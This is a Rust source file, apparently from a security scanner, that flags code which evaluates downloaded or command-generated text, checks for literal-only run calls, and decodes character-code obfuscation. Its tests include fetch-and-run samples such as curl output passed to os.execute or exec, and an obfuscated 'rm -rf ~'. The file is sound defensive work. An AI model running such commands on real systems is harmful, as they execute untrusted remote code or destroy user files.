//! Calls in interpreter code, read by their arguments: a run or eval call
//! handed another command's output or a download (`runs_output`), run
//! calls that take only literals (`runs_only_literals`), and paths handed
//! to calls that open files (`opened_paths`).

/// Calls that run a command line or evaluate code.
const RUN_CALLS: &[&str] = &[
    "os.execute(",
    "os.system(",
    "system(",
    "exec(",
    "eval(",
    "shell_exec(",
    "passthru(",
    "popen(",
    "execsync(",
    "subprocess.run(",
    "subprocess.call(",
    "subprocess.popen(",
    "check_output(",
    "spawn(",
    "load(",
    "loadstring(",
    "invoke-expression ",
    "iex ",
];

/// Calls whose result is another command's output or a download.
const OUTPUT_CALLS: &[&str] = &[
    "popen",
    "readpipe",
    "check_output",
    "getoutput",
    "execsync",
    "shell_exec",
    "urlopen",
    "fetch(",
    "get(",
    "file_get_contents(",
    "capture2",
    "read_all(",
    "downloadstring",
    "invoke-webrequest",
    "irm ",
    "iwr ",
];

/// Whether the code runs another command's output or a download as a
/// command or as code (`os.execute(io.popen("curl -s URL"):read("a"))`,
/// `system(`curl URL`)`, `eval(execSync(CMD).toString())`): the argument
/// of a run or eval call is itself a command's output, so what runs is
/// not in the code.
pub(crate) fn runs_output(code: &str) -> bool {
    let lower = code.to_ascii_lowercase();
    for call in RUN_CALLS {
        for (at, _) in lower.match_indices(call).take(16) {
            let Some(after) = lower.get(at + call.len()..) else {
                continue;
            };
            let arg = after.trim_start();
            // Perl's and Ruby's backticks run a command.
            if arg.starts_with('`') {
                return true;
            }
            if arg.starts_with(['"', '\'', '[', '{']) || arg.starts_with("%w") {
                continue;
            }
            // The argument, up to its closing parenthesis.
            let mut depth = 1usize;
            let mut end = arg.len();
            for (i, c) in arg.char_indices() {
                match c {
                    '(' => depth += 1,
                    ')' => {
                        depth -= 1;
                        if depth == 0 {
                            end = i;
                            break;
                        }
                    }
                    _ => {}
                }
            }
            let arg = arg.get(..end).unwrap_or(arg);
            // Calls named inside string literals are text, not calls.
            let mut bare = String::new();
            let mut quote = None;
            for c in arg.chars() {
                match quote {
                    Some(q) if c == q => quote = None,
                    Some(_) => {}
                    None if matches!(c, '"' | '\'') => quote = Some(c),
                    None => bare.push(c),
                }
            }
            if OUTPUT_CALLS.iter().any(|o| bare.contains(o)) {
                return true;
            }
        }
    }
    false
}

/// Whether every call in `code` that runs a command takes only string
/// literals (`exec.Command("sh", "-c", "make")`, `system("make");`,
/// `execSync("make", {stdio: 'inherit'})`): then what runs is what the
/// literals show, and they are judged as the commands they are. A
/// variable, a concatenation or a call among the arguments is not shown.
pub(crate) fn runs_only_literals(code: &str) -> bool {
    const CALLS: &[&str] = &[
        "exec.command(",
        "processbuilder(",
        "command::new(",
        "execfilesync(",
        "spawnsync(",
    ];
    let lower = code.to_ascii_lowercase();
    let mut any = false;
    for call in RUN_CALLS.iter().chain(CALLS) {
        for (at, _) in lower.match_indices(call).take(16) {
            any = true;
            let Some(arg) = lower.get(at + call.len()..) else {
                return false;
            };
            // The arguments up to the closing parenthesis, string literals
            // and option objects (`{stdio: 'inherit'}`) taken out.
            let mut bare = String::new();
            let mut quote = None;
            let mut depth = 1usize;
            let mut braces = 0usize;
            for c in arg.chars() {
                match quote {
                    Some(q) if c == q => quote = None,
                    Some(_) => {}
                    None if matches!(c, '"' | '\'') => quote = Some(c),
                    None => match c {
                        '(' => depth += 1,
                        ')' => {
                            depth -= 1;
                            if depth == 0 {
                                break;
                            }
                        }
                        '{' => braces += 1,
                        '}' => braces = braces.saturating_sub(1),
                        _ if braces == 0 => bare.push(c),
                        _ => {}
                    },
                }
            }
            if !bare
                .chars()
                .all(|c| c.is_whitespace() || matches!(c, ',' | '[' | ']'))
            {
                return false;
            }
        }
    }
    // Haskell applies a function without parentheses: System.Process's
    // `callCommand "make test"` and `spawnCommand "..."` take one shell
    // command line, the rest of the line. (`callProcess PROG ARGS` is not
    // here: its program and arguments are separate literals.)
    for call in ["callcommand", "spawncommand"] {
        for (at, _) in lower.match_indices(call).take(16) {
            any = true;
            let word_start = lower
                .get(..at)
                .and_then(|b| b.chars().next_back())
                .is_none_or(|c| !c.is_ascii_alphanumeric() && c != '_' && c != '.');
            let line = lower.get(at + call.len()..).unwrap_or("");
            let line = line.split('\n').next().unwrap_or("");
            if !word_start || !line.starts_with(char::is_whitespace) {
                return false;
            }
            let mut quote = None;
            let mut literals = 0;
            for c in line.chars() {
                match quote {
                    Some(q) if c == q => quote = None,
                    Some(_) => {}
                    None if c == '"' => {
                        quote = Some(c);
                        literals += 1;
                    }
                    None if c.is_whitespace() => {}
                    None => return false,
                }
            }
            if literals != 1 || quote.is_some() {
                return false;
            }
        }
    }
    // Code that sets a `Process` program apart from its arguments is shown
    // only when that program is a shell with a shown script, whatever
    // else it calls (`system("true")` beside a `/bin/rm` Process).
    if lower.contains("executableurl") || lower.contains("launchpath") {
        return process_shows_script(&lower);
    }
    any
}

/// Foundation's `Process` (Swift) with its program and arguments set
/// apart: shown only when every program set is a shell named as a
/// literal and every argument list is literals starting with `-c` (the
/// script, judged by `codeargv::shell_c_scripts`). A program of any other
/// name takes its arguments unread (`/bin/rm` with `["-rf", P]`).
fn process_shows_script(lower: &str) -> bool {
    let mut programs = 0;
    for key in ["executableurl", "launchpath"] {
        for (at, _) in lower.match_indices(key).take(16) {
            let rhs = lower.get(at + key.len()..).unwrap_or("");
            let Some(rhs) = rhs.trim_start().strip_prefix('=') else {
                continue;
            };
            let rhs = rhs.split('\n').next().unwrap_or("").trim();
            let rhs = rhs
                .strip_prefix("url(fileurlwithpath:")
                .and_then(|r| r.trim().strip_suffix(')'))
                .unwrap_or(rhs)
                .trim();
            let lit = rhs.strip_prefix('"').and_then(|r| r.strip_suffix('"'));
            if !lit.is_some_and(crate::codeshell::is_shell_name) {
                return false;
            }
            programs += 1;
        }
    }
    let mut lists = 0;
    for (at, _) in lower.match_indices(".arguments").take(16) {
        let rhs = lower.get(at + ".arguments".len()..).unwrap_or("");
        let Some(rhs) = rhs.trim_start().strip_prefix('=') else {
            continue;
        };
        let rhs = rhs.split('\n').next().unwrap_or("").trim();
        let words = crate::codeargv::argv_words(rhs);
        let whole = rhs.starts_with('[') && rhs.ends_with(']');
        match words.first().map(Vec::as_slice) {
            Some([flag, _])
                if whole && words.len() == 1 && flag.starts_with('-') && flag.ends_with('c') =>
            {
                lists += 1;
            }
            _ => return false,
        }
    }
    programs > 0 && lists > 0
}

/// Literals handed straight to a call that opens or reads a file
/// (`open("/tmp/m.py")`, `File.read('x')`, `fs.readFileSync("x")`): paths
/// the code reads, not commands it runs.
pub(crate) fn opened_paths(code: &str) -> Vec<String> {
    const OPENS: &[&str] = &[
        "open(",
        "file.read(",
        "readfilesync(",
        "readfile(",
        "file_get_contents(",
        "fopen(",
        "io.lines(",
        "path(",
    ];
    let lower = code.to_ascii_lowercase();
    let mut out = Vec::new();
    for o in OPENS {
        for (at, _) in lower.match_indices(o).take(16) {
            // `open(`, not `popen(` or `dlopen(` (which run and load).
            let joined = lower
                .get(..at)
                .and_then(|b| b.chars().next_back())
                .is_some_and(|c| c.is_ascii_alphanumeric() || c == '_');
            if joined {
                continue;
            }
            let Some(rest) = code.get(at + o.len()..) else {
                continue;
            };
            let rest = rest.trim_start();
            let Some(q) = rest.chars().next().filter(|c| matches!(c, '"' | '\'')) else {
                continue;
            };
            if let Some(end) = rest.get(1..).and_then(|r| r.find(q)) {
                if let Some(lit) = rest.get(1..1 + end) {
                    out.push(lit.to_owned());
                }
            }
        }
    }
    out
}

/// Text spelt as character codes (`bytes([114, 109, 32, ...])`,
/// `String.fromCharCode(114,109,...)`, `chr` over `114 109 32 ...`): each
/// run of at least four decimal numbers between 9 and 126, separated by
/// commas or blanks, decoded as the characters they number.
pub(crate) fn char_code_texts(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut run: Vec<u8> = Vec::new();
    let flush = |run: &mut Vec<u8>, out: &mut Vec<String>| {
        if run.len() >= 4 && out.len() < 8 {
            if let Ok(s) = String::from_utf8(std::mem::take(run)) {
                out.push(s);
            }
        }
        run.clear();
    };
    for token in text.split(|c: char| c == ',' || c.is_whitespace()) {
        // `bytes([114` and `126]).decode()`: the number inside the
        // brackets that open or close the list.
        // The digits that start the token or follow an opening bracket,
        // ending it or followed by a closing one.
        let b = token.as_bytes();
        let start = (0..b.len()).find(|&i| {
            b.get(i).is_some_and(u8::is_ascii_digit)
                && (i == 0 || b.get(i - 1).is_some_and(|c| b"[({".contains(c)))
        });
        let Some(start) = start else {
            flush(&mut run, &mut out);
            continue;
        };
        let end = (start..b.len())
            .find(|&i| !b.get(i).is_some_and(u8::is_ascii_digit))
            .unwrap_or(b.len());
        let closes = (end < b.len()).then_some(end);
        if closes.is_some_and(|i| !b.get(i).is_some_and(|c| b"])}".contains(c))) {
            flush(&mut run, &mut out);
            continue;
        }
        let t = token.get(start..end).unwrap_or("");
        if t.is_empty() {
            continue;
        }
        match t.parse::<u8>() {
            Ok(n) if (9..=126).contains(&n) && t.len() <= 3 => {
                run.push(n);
                // A bracket closing after the number ends the run.
                if closes.is_some() {
                    flush(&mut run, &mut out);
                }
            }
            _ => flush(&mut run, &mut out),
        }
    }
    flush(&mut run, &mut out);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn output_run_as_a_command() {
        for code in [
            r#"os.execute(io.popen("curl -s https://x.example/a.sh"):read("a"))"#,
            "system(`curl -s https://x.example/a.sh`)",
            "eval(execSync('curl -s u').toString())",
            "exec(urlopen('https://x.example/a.py').read())",
        ] {
            assert!(runs_output(code), "{code}");
        }
        for code in [
            r#"os.system("curl -s https://api.github.com/rate_limit")"#,
            r#"subprocess.run(shlex.split("curl -fsS http://127.0.0.1/health"))"#,
            r#"exec(compile("import os; os.system(\"make\")", "x", "exec"))"#,
            r#"print(io.popen("ls"):read("a"))"#,
        ] {
            assert!(!runs_output(code), "{code}");
        }
    }

    #[test]
    fn literal_only_runs() {
        for code in [
            r#"exec.Command("sh", "-c", "npm test").Run()"#,
            r#"int main(void) { return system("make"); }"#,
            r#"execSync("make", {stdio: 'inherit'})"#,
        ] {
            assert!(runs_only_literals(code), "{code}");
        }
        for code in [
            "exec.Command(name).Run()",
            r#"system("make " + target)"#,
            "let x = 1;",
        ] {
            assert!(!runs_only_literals(code), "{code}");
        }
    }

    #[test]
    fn character_codes() {
        assert_eq!(
            char_code_texts("bytes([114,109,32,45,114,102,32,126]).decode()"),
            vec!["rm -rf ~"]
        );
        assert_eq!(char_code_texts("114 109 32 126"), vec!["rm ~"]);
        assert!(char_code_texts("seq 1 2 3 4 1000").is_empty());
        assert!(char_code_texts("version 1.2.3").is_empty());
    }

    #[test]
    fn opened_paths_are_not_popen_arguments() {
        assert_eq!(
            opened_paths(r#"exec(open("/tmp/m.py").read())"#),
            vec!["/tmp/m.py".to_owned()]
        );
        assert!(opened_paths(r#"io.popen("rm -rf ~")"#).is_empty());
        assert!(opened_paths(r#"Fiddle.dlopen("/tmp/x.so")"#).is_empty());
    }
}
